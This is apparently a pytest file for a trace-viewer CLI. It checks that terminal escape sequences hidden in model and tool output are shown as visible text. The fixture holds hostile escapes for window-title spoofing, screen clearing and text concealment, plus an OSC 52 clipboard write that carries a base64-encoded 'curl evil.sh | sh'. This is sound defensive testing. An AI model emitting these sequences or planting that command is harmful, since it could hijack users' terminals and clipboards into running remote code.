"""Trace content never drives the terminal: model output and tool results are attacker-influenced, so `spanfold show`,
`summary`, `validate` and `check` print their control characters as visible text (``\\x1b``), piped or not.

The hostile trace carries an OSC window title, an OSC 52 clipboard write, a screen clear, a conceal sequence, an
8-bit CSI, a bidirectional override and a carriage return, in every field the commands print."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J\x1b[H"
CONCEAL = "\x1b[8m"
CSI8 = "\x9b2J"
BIDI = "\u202e"
HOSTILE = TITLE + CLIPBOARD + CLEAR + CONCEAL + CSI8 + BIDI + "\r"
#: What a terminal must never receive from trace content (our own colour is SGR only: ESC [ digits ; m).
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")
SGR = re.compile("\x1b\\[[0-9;]*m")


def _trace(directory: Path) -> Path:
    name = "get" + HOSTILE
    events = [
        {"role": "user", "content": "hi" + HOSTILE + "\nsecond line\twith a tab"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {"id": "c1" + HOSTILE, "type": "function", "function": {"name": name, "arguments": {"k": HOSTILE}}},
                {"id": "c2", "type": "function", "function": {"name": name, "arguments": "raw" + HOSTILE}},
            ],
        },
        {"role": "tool", "content": "out" + HOSTILE, "tool_call_id": "c1" + HOSTILE},
        {"role": "tool", "content": "x", "tool_call_id": "c2", "error": {"type": "Err" + HOSTILE}},
        {"role": "error", "content": None, "error": {"type": "boom" + HOSTILE}},
    ]
    meta = {"trace_id": "abc" + HOSTILE, "name": "bot" + HOSTILE, "models": ["m" + HOSTILE], "duration_ms": 5.0}
    path = directory / "hostile.jsonl"
    path.write_text(json.dumps(events, ensure_ascii=False) + "\n", encoding="utf-8")
    (directory / "hostile.meta.jsonl").write_text(json.dumps({"metadata": meta}, ensure_ascii=False) + "\n")
    return path


def _run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    script = Path(sys.executable).with_name("spanfold")
    command = [str(script)] if script.exists() else [sys.executable, "-m", "spanfold"]
    return subprocess.run(
        [*command, *args], capture_output=True, text=True, timeout=60, check=False, env={**os.environ, **(env or {})}
    )


def _assert_inert(text: str, *, colour: bool = False) -> None:
    if colour:
        text = SGR.sub("", text)
    found = RAW.findall(text)
    assert not found, f"raw control characters reach the terminal: {found!r}"


@pytest.mark.parametrize("colour", [False, True], ids=["piped", "forced-colour"])
def test_show_prints_control_characters_visibly(tmp_path: Path, colour: bool) -> None:
    path = _trace(tmp_path)
    done = _run("show", str(path), *(["--color"] if colour else []))
    assert done.returncode == 0, done.stderr
    _assert_inert(done.stdout + done.stderr, colour=colour)
    plain = SGR.sub("", done.stdout)
    assert "get\\x1b]0;pwned\\x07\\x1b]52;c;" in plain  # visible, so a person sees the attempt
    assert "\\x9b2J\\u202e\\r" in plain
    assert "second line with a tab" in plain  # newlines kept as lines, tabs as spaces
    assert "abc\\x1b]0;pwned" in plain and "bot\\x1b]0;pwned" in plain and "m\\x1b]0;pwned" in plain


def test_summary_table_and_json_are_inert(tmp_path: Path) -> None:
    path = _trace(tmp_path)
    table = _run("summary", str(path))
    assert table.returncode == 0, table.stderr
    _assert_inert(table.stdout + table.stderr)
    assert "get\\x1b]0;pwned" in table.stdout
    as_json = _run("summary", "--json", str(path))
    assert as_json.returncode == 0, as_json.stderr
    _assert_inert(as_json.stdout)
    row = json.loads(as_json.stdout)
    assert row["trace_id"] == "abc" + HOSTILE  # the JSON still carries the data exactly
    assert list(row["trace_summary"]["toolCallsByName"]) == ["get" + HOSTILE]


def test_validate_and_check_reasons_are_inert(tmp_path: Path) -> None:
    path = _trace(tmp_path)
    bad = tmp_path / "bad.jsonl"
    bad.write_text(json.dumps([{"role": 7, "content": "x", "k" + HOSTILE: 1}], ensure_ascii=False) + "\n")
    validated = _run("validate", str(bad), str(path))
    _assert_inert(validated.stdout + validated.stderr)
    spec = tmp_path / "spec.yaml"
    spec.write_text("checks:\n  - type: tool_trajectory\n    mode: exact\n    expected: [get_weather]\n")
    checked = _run("check", str(path), "--spec", str(spec), "--verbose")
    assert checked.returncode == 1, checked.stderr
    _assert_inert(checked.stdout + checked.stderr)
    assert "get\\x1b]0;pwned" in checked.stdout
